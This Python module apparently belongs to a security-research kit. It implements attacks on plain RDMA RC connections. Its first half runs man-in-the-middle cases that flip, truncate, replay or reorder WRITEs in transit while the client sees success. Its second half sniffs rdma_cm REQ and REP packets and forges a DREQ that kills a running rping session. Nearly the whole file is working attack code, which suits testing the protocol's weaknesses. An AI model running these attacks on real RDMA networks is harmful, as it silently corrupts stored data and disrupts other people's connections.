"""A man in the middle of plain RC QPs, who changes WRITEs on their way, and an attacker who ends a
connection of rdma_cm. Every WRITE of the client completes with success."""

from __future__ import annotations

import contextlib
import struct
import subprocess
import time
from collections.abc import Iterator
from subprocess import DEVNULL

from srdma_attack.against_plain.cable import LONGEST, cable, open_packets
from srdma_attack.against_plain.constants import e
from srdma_attack.against_plain.frames import BTH, Frame
from srdma_attack.against_plain.rc import WAIT, Endpoint, Stage, stage
from srdma_attack.against_plain.rules import CASES, SIZE, Case
from srdma_attack.attack import Finding, KitError, Settings, outcome

UD_SEND_ONLY = 0x64

# --- attacks ---------------------------------------------------------------------------------


def write_all(case: Case, client: Endpoint, rkey: int, address: int) -> bool:
    """Posts the WRITEs of the case. True if all completed with success."""
    wrong = 0
    for number, (data, at) in enumerate(case.writes):
        client.host.region.write(data, SIZE, number * SIZE)
        client.post(e.IBV_WR_RDMA_WRITE, rkey, address + at, SIZE, number * SIZE)
        if not case.together:
            wrong += client.completion() != e.IBV_WC_SUCCESS
    if case.together:
        wrong += sum(client.completion() != e.IBV_WC_SUCCESS for _ in case.writes)
    return not wrong


def _beside(case: Case) -> Finding:
    with stage(cable(case.rule())) as it:
        client, _ = it.pair()
        region = it.server.region
        done = write_all(case, client, region.rkey, region.buf)
        return Finding(outcome(done and bytes(region.read(SIZE, 0)) == case.wanted))


def flip(settings: Settings) -> Finding:
    return _beside(CASES["flip"])


def truncate(settings: Settings) -> Finding:
    return _beside(CASES["truncate"])


def replay(settings: Settings) -> Finding:
    return _beside(CASES["replay"])


def reorder(settings: Settings) -> Finding:
    return _beside(CASES["reorder"])


# --- rdma_cm ---------------------------------------------------------------------------------

MAD_AT, MAD = BTH + 8, 256  # behind BTH and DETH; bytes
CLASS, CM, ATTRIBUTE, BODY = 1, 7, 16, 24  # offsets in a MAD, and the class of rdma_cm
REQ, REP, DREQ = 0x10, 0x13, 0x15
STEADY, PATIENCE = 2, 20  # seconds: before the attack, and for its effect


def forge_disconnect(settings: Settings) -> Finding:
    """A DREQ in the name of the client of rping. All that it names was in REQ and REP."""
    with stage() as it, contextlib.closing(open_packets(it.client.end.netdev)) as wire:
        wire.settimeout(WAIT)
        with _rping(it) as server:
            seen: dict[int, Frame] = {}
            while not {REQ, REP} <= seen.keys():
                frame = Frame.parse(wire.recv(LONGEST))
                if frame and frame.opcode == UD_SEND_ONLY and _mad(frame)[CLASS] == CM:
                    seen[int.from_bytes(_mad(frame)[ATTRIBUTE : ATTRIBUTE + 2], "big")] = frame
            wire.send(_dreq(seen[REQ], seen[REP], wrong=1).build())  # the kernel ignores it
            time.sleep(STEADY)
            if server.poll() is not None:
                raise KitError("rping ended before the attack")
            wire.send(_dreq(seen[REQ], seen[REP]).build())
            with contextlib.suppress(subprocess.TimeoutExpired):
                server.wait(PATIENCE)
            return Finding(outcome(server.poll() is not None))


@contextlib.contextmanager
def _rping(it: Stage) -> Iterator[subprocess.Popen[bytes]]:
    """The server of rping, whose client sends messages without end."""
    client, server = it.client.end.address, it.server.end.address
    commands = ["rping", "-s", "-a", server], ["rping", "-c", "-a", server, "-I", client]
    with contextlib.ExitStack() as undo:
        processes = []
        for command in commands:
            processes.append(subprocess.Popen(command, stdout=DEVNULL, stderr=DEVNULL))
            undo.callback(processes[-1].wait)
            undo.callback(processes[-1].kill)
            time.sleep(STEADY)  # rping does not say when it listens
        yield processes[0]


def _mad(frame: Frame) -> bytes:
    return frame.packet[MAD_AT : MAD_AT + MAD]


def _dreq(req: Frame, rep: Frame, wrong: int = 0) -> Frame:
    """Ids of both ends, and the QPN of the server. wrong: bits of the QPN that are inverted."""
    ids = _mad(req)[BODY : BODY + 4] + _mad(rep)[BODY : BODY + 4]
    qpn = int.from_bytes(_mad(rep)[BODY + 12 : BODY + 15], "big") ^ wrong
    head = _mad(req)[:ATTRIBUTE] + struct.pack(">H", DREQ) + bytes(6)
    mad = head + ids + qpn.to_bytes(3, "big")
    return req.with_packet(req.packet[:MAD_AT] + mad.ljust(MAD, b"\0"))
